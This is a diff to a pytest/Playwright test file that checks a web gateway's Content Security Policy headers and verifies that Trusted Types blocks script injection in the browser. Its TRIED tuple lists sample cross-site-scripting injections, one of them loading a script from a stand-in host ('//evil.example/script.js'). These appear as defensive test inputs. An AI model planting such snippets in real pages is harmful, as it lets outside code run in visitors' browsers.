@@ -5,13 +5,31 @@ from importlib.resources import files
 
 import httpx
 import pytest
+from playwright.async_api import Error
 
 from gateway.web.pages import POLICY
-from tests.web.conftest import Site
+from tests.web.conftest import Site, Visitor
 
 pytestmark = pytest.mark.anyio
 
 PAGES = ("/", "/sign-in", "/sign-up")
+
+#: What a page may do, directive by directive (Content Security Policy Level 3, Trusted Types).
+MAY = {
+    "default-src": "'none'",
+    **dict.fromkeys(("script-src", "style-src", "img-src", "connect-src"), "'self'"),
+    **dict.fromkeys(("form-action", "base-uri", "frame-ancestors"), "'none'"),
+    "require-trusted-types-for": "'script'",
+    "trusted-types": "'none'",
+}
+
+
+#: What somebody else's script would do with text.
+TRIED = (
+    "document.body.innerHTML = '<b>text</b>'",
+    "document.createElement('script').text = 'window.ran = true'",
+    "document.createElement('script').src = '//evil.example/script.js'",
+)
 
 
 async def answers(site: Site, *paths: str) -> list[httpx.Response]:
@@ -23,11 +41,18 @@ async def test_every_page_and_file_is_held_to_the_policy(site: Site) -> None:
     names = [entry.name for entry in files("gateway.web").joinpath("static").iterdir()]
     for answer in await answers(site, *PAGES, *(f"/static/{name}" for name in names)):
         assert answer.status_code == 200
-        assert answer.headers["content-security-policy"] == POLICY
+        directives = [part.split(maxsplit=1) for part in answer.headers["content-security-policy"].split(";")]
+        assert dict(directives) == MAY
         assert answer.headers["x-content-type-options"] == "nosniff"
         assert answer.headers["referrer-policy"] == "no-referrer"
-    assert "unsafe" not in POLICY
-    assert "http" not in POLICY
+
+
+@pytest.mark.parametrize("path", PAGES)
+async def test_a_browser_makes_neither_html_nor_a_script_of_text_in_a_page(visitor: Visitor, path: str) -> None:
+    await visitor.page.goto(path)
+    for tried in TRIED:
+        with pytest.raises(Error, match="This document requires 'Trusted"):
+            await visitor.page.evaluate(f"() => {{ {tried}; }}")
 
 
 async def test_no_page_has_a_script_a_style_or_a_handler_inline(site: Site) -> None:
